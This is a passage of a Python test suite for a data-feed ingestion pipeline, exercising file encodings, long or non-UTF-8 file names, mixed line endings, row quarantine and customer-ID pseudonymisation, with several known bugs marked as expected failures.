    own = f"{HEADER}\n{GOOD.replace('A1', 'OWN')}\n".encode()
    tmp, landing, conn = ingest_one("orders", name, own, extra={"orders_x.csv": f"{HEADER}\n{GOOD.replace('A1', 'OTHER')}\n".encode()})
    with tmp, conn:
        ensure_schema(conn)
        result = ingest_file(conn, landing / "orders" / name, "orders", SALT)
        assert (result.rows_received, result.rows_loaded) == (1, 1)
        assert conn.execute("select order_id from raw.orders").fetchall() == [("OWN",)]


@xfail_bug("reason_file_name_too_long")
def test_bug_a_rejected_file_with_a_long_name_gets_its_reason_file():
    name = "orders_" + "x" * 240 + ".csv"  # 251 bytes: a valid name; name + '.reason.txt' is not
    tmp, landing, conn = ingest_one("orders", name, b"not,a,contract\n1,2,3\n")
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert result.status == "rejected"
        assert len(list((landing / "rejected" / "orders").glob("*.reason.txt"))) == 1


@xfail_bug("pii_in_quarantine_record")
def test_bug_a_quarantined_row_does_not_keep_the_customer_id_in_clear():
    tmp, landing, conn = ingest_one("orders", "orders_a.csv", f"{HEADER}\n{GOOD.replace('C-1', 'alice@example.com').replace(',web,', ',fax,')}\n".encode())
    with tmp, conn:
        ingest_feed(conn, landing, "orders", SALT)
        [(record,)] = conn.execute("select record from audit.quarantine").fetchall()
        assert "alice@example.com" not in record


@xfail_bug("latin1_after_encoding_sample")
def test_bug_a_latin1_file_whose_first_accent_is_after_one_mebibyte_loads():
    rows = "".join(GOOD.replace("A1", f"A{i}") + "\n" for i in range(25_000))  # ~1.2 MB of ASCII
    body = (HEADER + "\n" + rows).encode("ascii") + GOOD.replace("A1", "Z1").replace("C-1", "Zoë").encode("latin-1") + b"\n"
    tmp, landing, conn = ingest_one("orders", "orders_big.csv", body)
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.status, result.rows_loaded) == ("loaded", 25_001)


@xfail_bug("utf16_big_endian")
def test_bug_a_utf16_big_endian_file_with_bom_loads():
    body = codecs.BOM_UTF16_BE + f"{HEADER}\n{GOOD}\n".encode("utf-16-be")
    tmp, landing, conn = ingest_one("orders", "orders_be.csv", body)
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.status, result.rows_loaded) == ("loaded", 1), result.message


@xfail_bug("json_values_retyped")
def test_bug_json_lines_values_are_kept_as_written():
    row = dict(zip(HEADER.split(","), GOOD.split(",")))
    row.update(ordered_at="2025-01-03T23:30:00-05:00", fulfilment_node="2025-01-03T10:00:00Z", currency="USD", ship_to_country="US")
    tmp, landing, conn = ingest_one("orders", "orders_a.jsonl", (json.dumps(row) + "\n").encode())
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert result.rows_loaded == 1
        order_date, node = conn.execute("select order_date, fulfilment_node from raw.orders").fetchall()[0]
        assert (str(order_date), node) == ("2025-01-03", "2025-01-03T10:00:00Z")  # as the CSV path stores them


@xfail_bug("json_values_retyped")
def test_bug_json_lines_strings_keep_no_quotes_when_a_column_mixes_types():
    base = dict(zip(HEADER.split(","), GOOD.split(",")))
    rows = [{**base, "order_id": "A1", "fulfilment_node": 5}, {**base, "order_id": "A2", "fulfilment_node": "NL-AMS"}]
    tmp, landing, conn = ingest_one("orders", "orders_a.jsonl", "".join(json.dumps(r) + "\n" for r in rows).encode())
    with tmp, conn:
        ingest_feed(conn, landing, "orders", SALT)
        assert conn.execute("select fulfilment_node from raw.orders where order_id = 'A2'").fetchall() == [("NL-AMS",)]


@xfail_bug("pii_prefix_passthrough")
@pytest.mark.parametrize("customer_id", ["sha256:bob@example.com", "sha256:"])
def test_bug_a_customer_id_that_looks_like_a_pseudonym_prefix_is_still_pseudonymised(customer_id):
    body = f"{HEADER}\n{GOOD.replace('C-1', customer_id)}\n{GOOD.replace('A1', 'A2').replace('C-1', customer_id).replace(',web,', ',fax,')}\n"
    tmp, landing, conn = ingest_one("orders", "orders_a.csv", body.encode())
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.rows_loaded, result.rows_quarantined) == (1, 1)
        [(key,)] = conn.execute("select customer_key from raw.orders").fetchall()
        assert HEX64.match(key), key
        [(record,)] = conn.execute("select record from audit.quarantine").fetchall()
        assert PSEUDONYM.match(json.loads(record)["customer_id"]), record


@xfail_bug("invalid_utf16_crashes")
@pytest.mark.parametrize("tail", [b"A", b"\x00\xd8A\x00\n\x00"], ids=["odd byte count", "lone surrogate"])
def test_bug_a_broken_utf16_file_is_rejected_not_raised(tail):
    body = codecs.BOM_UTF16_LE + f"{HEADER}\n{GOOD}\n".encode("utf-16-le") + tail
    tmp, landing, conn = ingest_one("orders", "orders_utf16.csv", body, extra={"orders_z.csv": f"{HEADER}\n{GOOD}\n".encode()})
    with tmp, conn:
        results = {r.file_name: r.status for r in ingest_feed(conn, landing, "orders", SALT)}
        assert results == {"orders_utf16.csv": "rejected", "orders_z.csv": "loaded"}  # and the feed goes on


@pytest.mark.parametrize(
    ("name", "body"),
    [(b"orders_M\xfcller.csv", f"{HEADER}\n{GOOD}\n".encode()), (b"orders_M\xfcller.csv", bytes(range(256)) * 3),
     (b"notes_M\xfcller.csv", b"x\n")],
    ids=["loaded", "unreadable content", "no contract"],
)
def test_a_file_name_that_is_not_utf8_is_ingested_and_does_not_block_the_feed(name, body):
    tmp, landing, conn = ingest_one("orders", os.fsdecode(name), body, extra={"orders_z.csv": f"{HEADER}\n{GOOD.replace('A1', 'Z1')}\n".encode()})
    with tmp, conn:
        results = {r.file_name: r.status for r in ingest_feed(conn, landing, "orders", SALT)}
        assert results.get("orders_z.csv") == "loaded"  # the feed goes on
        assert conn.execute("select count(*) from audit.ingest_ledger").fetchall() == [(2,)]  # one row per file


@xfail_bug("non_utf8_file_name")
@pytest.mark.parametrize(
    ("name", "body"),
    [(b"orders_x.cs\xfc", b"order_id\n1\n")],
    ids=["unsupported suffix"],
)
def test_bug_a_rejected_file_whose_name_is_not_utf8_does_not_block_the_feed(name, body):
    tmp, landing, conn = ingest_one("orders", os.fsdecode(name), body, extra={"orders_z.csv": f"{HEADER}\n{GOOD.replace('A1', 'Z1')}\n".encode()})
    with tmp, conn:
        results = {r.file_name: r.status for r in ingest_feed(conn, landing, "orders", SALT)}
        assert results.get("orders_z.csv") == "loaded"  # the feed goes on
        assert conn.execute("select count(*) from audit.ingest_ledger").fetchall() == [(2,)]  # one row per file


@xfail_bug("cp1252_rejected")
@pytest.mark.parametrize("customer", ["Zoé €", "“Zoé”", "O’Neil", "Café – Bar…"])
def test_bug_a_windows_1252_csv_loads(customer):
    body = f"{HEADER}\n{GOOD.replace('C-1', 'C-9').replace('SKU-1', customer)}\n".encode("cp1252")
    tmp, landing, conn = ingest_one("orders", "orders_excel.csv", body)
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.status, result.rows_loaded) == ("loaded", 1), result.message
        assert conn.execute("select sku from raw.orders").fetchall() == [(customer,)]


def test_rows_appended_with_the_other_line_ending_load_with_their_numbers():
    """A CRLF export with LF lines appended by another tool: DuckDB's sniffer finds no dialect and the whole file was
    rejected ("Error when sniffing file"); it is read through a copy with one line ending, every line in its place."""
    lines = [GOOD.replace("A1", f"A{i}") for i in range(1, 6)]
    lines[3] = lines[3].replace(",1,9.99,", ",two,9.99,")  # the 4th row: a quantity that is no number
    body = ("\r\n".join([HEADER, *lines[:2]]) + "\r\n" + "\n".join(lines[2:]) + "\n").encode()
    tmp, landing, conn = ingest_one("orders", "orders_appended.csv", body)
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.status, result.rows_loaded, result.rows_quarantined) == ("loaded", 4, 1), result.message
        assert conn.execute("select order_id, _row_number from raw.orders order by 2").fetchall() == [
            ("A1", 1), ("A2", 2), ("A3", 3), ("A5", 5)]
        assert conn.execute("select row_number from audit.quarantine").fetchall() == [(4,)]


@pytest.mark.parametrize("chunk_bytes", [1, 2, 3, 1 << 20])
def test_mixed_line_endings_are_told_and_made_one_across_chunk_edges(tmp_path, chunk_bytes):
    from feeds.encodings import has_mixed_line_endings, unix_line_endings

    mixed, windows, unix = tmp_path / "m.csv", tmp_path / "w.csv", tmp_path / "u.csv"
    mixed.write_bytes(b"a,b\r\n1,2\r\n3,4\n5,\"x\r\ny\"\r\n")
    windows.write_bytes(b"a,b\r\n1,2\r\n")
    unix.write_bytes(b"a,b\n1,2\n")
    assert [has_mixed_line_endings(p, chunk_bytes) for p in (mixed, windows, unix)] == [True, False, False]
    with unix_line_endings(mixed, chunk_bytes) as copy:
        assert copy.read_bytes() == b"a,b\n1,2\n3,4\n5,\"x\r\ny\"\n"  # a quoted value keeps its own line break


@xfail_bug("rejected_long_name_collision")
def test_bug_a_long_name_rejected_twice_keeps_both_files_and_the_feed_going():
    name = "orders_" + "x" * 244 + ".csv"  # 255 bytes, the longest name a file may have
    tmp, landing, conn = ingest_one("orders", name, b"bad,1\n")
    with tmp, conn:
        assert [r.status for r in ingest_feed(conn, landing, "orders", SALT)] == ["rejected"]
        (landing / "orders" / name).write_bytes(b"bad,2\n")  # re-sent, still wrong
        (landing / "orders" / "orders_z.csv").write_text(f"{HEADER}\n{GOOD}\n", encoding="utf-8")
        STATS["handmade"]["orders"] += 2
        assert [r.status for r in ingest_feed(conn, landing, "orders", SALT)] == ["rejected", "loaded"]
        assert not (landing / "orders" / name).exists()
        assert len([p for p in (landing / "rejected" / "orders").iterdir() if not p.name.endswith(".reason.txt")]) == 2


@xfail_bug("landing_file_named_rejected")
def test_bug_a_landing_file_called_rejected_is_rejected_not_raised():
    tmp, landing, conn = ingest_one("orders", "rejected", b"order_id\n1\n")
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert result.status == "rejected"
